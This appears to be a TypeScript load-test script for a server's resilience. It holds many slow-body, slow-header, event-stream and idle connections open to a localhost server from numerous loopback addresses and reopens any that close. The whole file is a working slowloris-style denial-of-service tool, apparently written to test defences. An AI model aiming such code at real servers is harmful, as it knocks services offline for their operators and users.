import { type Socket, connect } from 'node:net';

/**
 * `node attack.js <port> <addresses> <count>`: keeps `count` slow connections of each kind open to a server, from so many client addresses
 * of this machine, and reopens closed ones. It runs as a separate process.
 * It answers every IPC message with `{ open }`, the number of open sockets of each kind.
 */

const [port, addresses, count] = process.argv.slice(2).map(Number) as [number, number, number];

const BYTE_INTERVAL_MS = 5_000;
/** Average delay before a closed socket is opened again. */
const REOPEN_MS = 10_000;
/** New sockets per second at the start. */
const OPENED_PER_SECOND = 200;

const KINDS = [
  // A slow body.
  'POST /api/auth/signin HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{',
  // Slow headers.
  'GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ',
  // An event stream.
  'GET /registry/log/stream HTTP/1.1\r\nHost: shop\r\n\r\n',
  // An idle socket.
  '',
];
/** The first two kinds send one more byte every few seconds. */
const SLOW_KINDS = 2;

const open = KINDS.map(() => new Set<Socket>());
const all = Array.from({ length: count * KINDS.length }, (_, index) => index);

for (const index of all) setTimeout(() => hold(index), (index / OPENED_PER_SECOND) * 1_000);
process.on('message', () => process.send!({ open: open.map(({ size }) => size) }));
process.on('disconnect', () => process.exit());

function hold(index: number): void {
  const kind = index % KINDS.length;
  const client = index % addresses;
  const localAddress = `127.1.${client >> 8}.${client & 255 || 1}`;
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  const timer = kind < SLOW_KINDS ? setInterval(() => socket.write('x'), BYTE_INTERVAL_MS) : undefined;
  socket.on('connect', () => {
    open[kind]!.add(socket);
    socket.write(KINDS[kind]!);
  });
  // Without a reader, the socket would not notice that the server closed it.
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(timer);
    open[kind]!.delete(socket);
    setTimeout(() => hold(index), REOPEN_MS * (0.5 + Math.random()));
  });
}
